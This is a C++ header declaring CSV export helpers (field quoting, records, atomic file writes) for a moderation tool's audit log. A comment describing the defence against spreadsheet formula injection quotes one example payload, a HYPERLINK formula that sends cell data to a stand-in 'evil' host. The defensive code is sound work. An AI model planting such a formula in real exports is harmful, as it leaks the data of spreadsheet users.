#pragma once
#include <QByteArray>
#include <QList>
#include <QString>
#include <QStringList>
#include <QStringView>

namespace roomwarden::util {

// CSV for exports that people open in spreadsheets (audit log, later analytics).
//
// RFC 4180: a field with a comma, a double quote, CR or LF is enclosed in double quotes and
// its quotes are doubled; records end with CRLF. The text is UTF-8 without a byte-order mark.
//
// Exported cells hold other people's text (chat names, ban reasons), and a spreadsheet runs a
// cell that starts with = + - @ (or TAB / CR, which some of them skip first) as a formula:
// `=HYPERLINK("http://evil/?"&A1)` leaks data when clicked. Following OWASP's CSV-injection
// guidance, such a cell gets a leading apostrophe, which spreadsheets show as text.
namespace csv {

// The cell as it is written: neutralised, then quoted if needed.
QString field(QStringView value);
// One record, CRLF included.
QString record(const QStringList &fields);
// A whole document, UTF-8 without BOM.
QByteArray document(const QList<QStringList> &rows);
// Writes the document atomically (the old file stays if anything fails); `error` says why not.
bool writeFile(const QString &path, const QList<QStringList> &rows, QString *error);

} // namespace csv
} // namespace roomwarden::util
